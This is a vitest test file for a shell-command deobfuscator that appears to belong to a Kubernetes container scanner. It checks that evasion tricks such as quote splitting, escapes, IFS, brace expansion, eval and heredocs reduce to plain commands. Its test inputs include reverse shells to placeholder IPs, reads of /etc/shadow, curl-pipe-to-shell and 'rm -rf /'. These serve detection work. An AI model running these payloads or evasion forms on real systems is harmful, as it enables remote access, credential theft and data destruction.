/**
 * Shell syntax used to hide what runs: quote splitting, escapes, variables, IFS, brace
 * expansion, ANSI-C strings, nested shells and eval. Each must normalize to the plain command.
 */
import { describe, expect, it } from 'vitest';
import { analyzeScript, innerCommands } from './helpers.js';

describe('quoting and expansion evasions', () => {
  it.each<[string, string[], Record<string, string>?]>([
    [`b'a's"h" -i`, ['bash -i']],
    ['/bin/b\\ash -i', ['bash -i']],
    ['"/bin/"bash -i', ['bash -i']],
    ["$'\\x62\\x61\\x73\\x68' -i", ['bash -i']],
    ["$'\\142\\141\\163\\150' -i", ['bash -i']],
    ['X=/dev/tcp; bash -i >& $X/1.2.3.4/4444 0>&1', ['bash -i >& /dev/tcp/1.2.3.4/4444 0>&1']],
    ['X=ba; Y=sh; $X$Y -c "id"', ['bash -c id', 'id']],
    ['a="l";b="s";$a$b -la', ['ls -la']],
    ['cat${IFS}/etc/passwd', ['cat /etc/passwd']],
    ['cat$IFS/etc/shadow', ['cat /etc/shadow']],
    ['cat${IFS%??}/etc/shadow', ['cat /etc/shadow']],
    ['{nc,10.0.0.1,4444,-e,/bin/sh}', ['nc 10.0.0.1 4444 -e /bin/sh', 'sh']],
    ['${HOME}/x --flag', ['x --flag']],
    ['echo ${HOME} $HOME', ['echo ${HOME} $HOME']],
    ['ls ${DIR:-/root}', ['ls /root']],
    ['X=abcdef; echo ${X:1:3} ${X: -2} ${#X}', ['echo bcd ef 6']],
    ['X=b_a_s_h; ${X//_/} -i', ['bash -i']],
    ['X=/usr/bin/bash; ${X##*/} -i', ['bash -i']],
    ['X=BASH; ${X,,} -i', ['bash -i']],
    ['$CMD', ['bash -i'], { CMD: 'bash -i' }],
    ['"$CMD"', ['bash -i'], { CMD: 'bash -i' }],
    ['nc $HOST $PORT', ['nc 10.0.0.1 4444'], { HOST: '10.0.0.1', PORT: '4444' }],
    ['export T=/dev/tcp; bash -i >& $T/h/1', ['export T=/dev/tcp', 'bash -i >& /dev/tcp/h/1']],
    ["printf -v C '\\x62ash'; $C -i", ['printf -v C \\x62ash', 'bash -i']],
    ['echo "unterminated', ['echo unterminated']],
    ["echo 'unterminated", ['echo unterminated']],
    ['echo $(unterminated', ['unterminated', 'echo $(unterminated)']],
    ['echo ${unterminated', ['echo ${unterminated']],
  ])('%s', (script, expected, env) => {
    expect(innerCommands(script, env)).toEqual(expected);
  });

  it('renders the deobfuscated script as a text', () => {
    const texts = analyzeScript(`X=/dev/tcp; b'a's"h" -i >& $X/1.2.3.4/4444 0>&1`).texts;
    expect(texts).toContain('X=/dev/tcp; bash -i >& /dev/tcp/1.2.3.4/4444 0>&1');
  });
});

describe('nested scripts', () => {
  it.each<[string, string[]]>([
    ['sh -c "bash -c \'id\'"', ["sh -c bash -c 'id'", 'bash -c id', 'id']],
    ['eval "curl x | sh"', ['eval curl x | sh', 'curl x', 'sh']],
    ['echo $(whoami) `hostname`', ['whoami', 'hostname', 'echo $(whoami) $(hostname)']],
    [
      'X=$(curl -s http://x/c); eval "$X"',
      ['curl -s http://x/c', 'eval $(curl -s http://x/c)', '$(curl -s http://x/c)'],
    ],
    ['bash -ec "id"', ['bash -ec id', 'id']],
    ['bash -xc "id"', ['bash -xc id', 'id']],
    ['bash -lc "id"', ['bash -lc id', 'id']],
    ['bash -o pipefail -c "id"', ['bash -o pipefail -c id', 'id']],
    ["sh -c 'echo $0 $1' name arg", ['sh -c echo $0 $1 name arg', 'echo name arg']],
    ['bash <<< "curl x | sh"', ['bash <<< curl x | sh', 'curl x', 'sh']],
    ['bash <<EOF\ncurl x | sh\nEOF\necho done', ['bash << EOF', 'curl x', 'sh', 'echo done']],
    ['cat <<-EOF | sh\n\tid\n\tEOF', ['cat <<- EOF', 'sh', 'id']],
  ])('%s', (script, expected) => {
    expect(innerCommands(script)).toEqual(expected);
  });

  it('flattens compound commands and skips headers, patterns and function names', () => {
    expect(
      innerCommands('for i in 1 2; do curl http://a/$i; done; if true; then wget x; fi'),
    ).toEqual(['curl http://a/$i', 'true', 'wget x']);
    expect(innerCommands('case $1 in start) nc -l 4444;; stop) kill 1;; esac')).toEqual([
      'nc -l 4444',
      'kill 1',
    ]);
    expect(innerCommands('f() { nc 1.2.3.4 1 -e sh; }; f')).toEqual([
      'nc 1.2.3.4 1 -e sh',
      'sh',
      'f',
    ]);
    expect(innerCommands('function g { id; }; g')).toEqual(['id', 'g']);
    expect(innerCommands('(cd /tmp && ./x) | tee log')).toEqual(['cd /tmp', 'x', 'tee log']);
    expect(innerCommands('(( i = 1 + 2 )); echo $i')).toEqual(['echo $i']);
    expect(innerCommands('a |\n b')).toEqual(['a', 'b']);
    expect(innerCommands('# comment $(rm -rf /)\necho hi # trailing')).toEqual(['echo hi']);
  });

  it('lists every program across nested levels once, lowercased', () => {
    const result = analyzeScript('BASH -c "curl x | sh"; /usr/bin/curl y');
    expect(result.programs).toEqual(['sh', 'bash', 'curl']);
  });
});

describe('shell invocation forms from Kubernetes command/args', () => {
  it.each<[unknown, unknown, string[]]>([
    [['/usr/bin/env', 'bash', '-c', 'id'], undefined, ['env bash -c id', 'bash -c id', 'id']],
    [['busybox', 'sh', '-c', 'id'], undefined, ['busybox sh -c id', 'sh -c id', 'id']],
    [['/bin/sh'], ['-c', 'id'], ['sh -c id', 'id']],
    [undefined, ['sh', '-c', 'id'], ['sh -c id', 'id']],
    [undefined, ['-c', 'id'], ['id']],
    [undefined, ['--config', '/etc/app.yaml'], []],
    [undefined, ['-config', '/etc/app.yaml'], []],
    [undefined, ['-euxc', 'id'], ['id']],
    [['dash', '-ec', 'id'], [], ['dash -ec id', 'id']],
  ])('%j %j', async (command, args, expected) => {
    const { analyzeContainerCommand } = await import('../../../src/normalize/shell/index.js');
    expect(analyzeContainerCommand(command, args, new Map()).commands).toEqual(expected);
  });
});
